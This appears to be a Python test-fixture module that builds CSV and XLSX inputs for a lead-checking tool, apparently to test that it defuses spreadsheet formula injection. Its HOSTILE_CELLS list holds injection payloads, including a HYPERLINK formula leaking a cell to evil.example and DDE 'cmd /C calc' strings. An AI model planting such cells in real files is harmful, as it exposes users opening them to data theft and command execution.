"""Real input files, built the way Excel and the platforms save them."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

CHINESE_HEADER = ["公司名称", "联系人", "邮箱", "公司网址", "电话", "国家/地区", "询盘内容"]
CHINESE_ROWS = [
    ["深圳清水环保", "王伟", "wang@qingshui-env.cn", "www.qingshui-env.cn", "+86 755 1234 5678",
     "中国", "我们需要紫外线杀菌灯用于污水处理"],
    ["AquaTech GmbH", "Juergen Gross", "j.gross@aquatech.de", "https://aquatech.de",
     "+49 30 123456", "德国", "UV lamps for water treatment, 500 pcs"],
    ["Fake Trading", "Bob", "bob@fake.example", "", "", "美国", "price?"],
]  # fmt: skip


def csv_text(rows: Sequence[Sequence[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def write_csv(
    path: Path, rows: Sequence[Sequence[str]], *, encoding: str, delimiter: str = ","
) -> Path:
    """A CSV as Excel writes it: CRLF lines; ``utf-8-sig`` and ``utf-16`` carry a BOM."""
    path.write_bytes(csv_text(rows, delimiter).encode(encoding))
    return path


def write_xlsx(path: Path, sheets: dict[str, Sequence[Sequence[object]]]) -> Path:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(list(row))
    workbook.save(path)
    return path


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\x1b[31mred\x1b[0m =2",
    "＝1+1",
    " =1+1",  # blanks a spreadsheet skips before the formula
    "\u3000=1+1",
    "\n=1+1",
    "\u00a0\r\n@SUM(1+1)",
    "\u200b-2+3",
    "\uffff=1+1\ufffe",  # characters XML cannot hold, then a formula
    "order\u202egnp.exe",  # a bidi override
]


# --- XLSX written part by part, the way a hostile or broken generator could -------------

_MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def inline(ref: str, text: str) -> str:
    """An inline-string cell."""
    from xml.sax.saxutils import escape

    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def sheet_xml(rows: Sequence[str], *, head: str = "") -> str:
    """A worksheet: ``rows`` are ``<row>`` elements written by the caller."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN_NS}">{head}'
        f"<sheetData>{''.join(rows)}</sheetData></worksheet>"
    )


def leads_rows(count: int, *, start: int = 2) -> list[str]:
    """A header row (email, website, company) and ``count`` lead rows below it."""
    rows = [f'<row r="1">{inline("A1", "email")}{inline("B1", "website")}'
            f'{inline("C1", "company")}</row>']  # fmt: skip
    for number in range(start, start + count):
        rows.append(
            f'<row r="{number}">{inline(f"A{number}", f"buyer{number}@firma{number}.de")}'
            f"{inline(f'B{number}', f'firma{number}.de')}{inline(f'C{number}', 'Firma')}</row>"
        )
    return rows


def write_parts(
    path: Path,
    sheet: str | bytes,
    *,
    shared: str | bytes | None = None,
    styles: str | None = None,
    extra: dict[str, bytes] | None = None,
) -> Path:
    """An XLSX from its parts: the sheet XML, optional shared strings and styles XML."""
    import zipfile

    rels = [f'<Relationship Id="rId1" Type="{_REL_NS}/worksheet" Target="worksheets/sheet1.xml"/>']
    if shared is not None:
        rels.append(
            f'<Relationship Id="rId2" Type="{_REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
        )
    if styles is not None:
        rels.append(f'<Relationship Id="rId3" Type="{_REL_NS}/styles" Target="styles.xml"/>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{_PKG_REL_NS}"><Relationship Id="rId1" '
            f'Type="{_REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{_MAIN_NS}" xmlns:r="{_REL_NS}"><sheets>'
            '<sheet name="Leads" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{_PKG_REL_NS}">{"".join(rels)}</Relationships>',
        )
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        if shared is not None:
            archive.writestr("xl/sharedStrings.xml", shared)
        if styles is not None:
            archive.writestr("xl/styles.xml", styles)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return path


def shared_strings_xml(strings: Sequence[str]) -> str:
    from xml.sax.saxutils import escape

    items = "".join(f"<si><t>{escape(text)}</t></si>" for text in strings)
    return f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN_NS}">{items}</sst>'


# cellXfs: style 0 general, style 1 a date (built-in format 14), style 2 a custom date
DATE_STYLES = (
    f'<styleSheet xmlns="{_MAIN_NS}"><numFmts count="1"><numFmt numFmtId="164" '
    'formatCode="yyyy/mm/dd hh:mm"/></numFmts><cellXfs count="3"><xf numFmtId="0"/>'
    '<xf numFmtId="14"/><xf numFmtId="164"/></cellXfs></styleSheet>'
)


def table_of(path: Path, skip: Sequence[str]) -> list[list[Any]]:
    """A batch output (.csv, .xlsx, .json or .jsonl) as rows of values, header first,
    the ``skip`` columns left out and short rows padded: outputs of two runs compare."""
    if path.suffix == ".xlsx":
        from openpyxl import load_workbook

        book = load_workbook(path, read_only=True)
        raw = [list(row) for row in book["leadcheck"].iter_rows(values_only=True)]
        book.close()
    elif path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            raw = list(csv.reader(handle))
    else:
        items = (
            json.loads(path.read_text("utf-8"))
            if path.suffix == ".json"
            else [json.loads(line) for line in path.read_text("utf-8").splitlines()]
        )
        raw = [list(items[0])] + [list(item.values()) for item in items]
    header = raw[0]
    keep = [i for i, name in enumerate(header) if name not in skip]
    padded = [[*row, *([None] * (len(header) - len(row)))] for row in raw]
    return [[row[i] for i in keep] for row in padded]
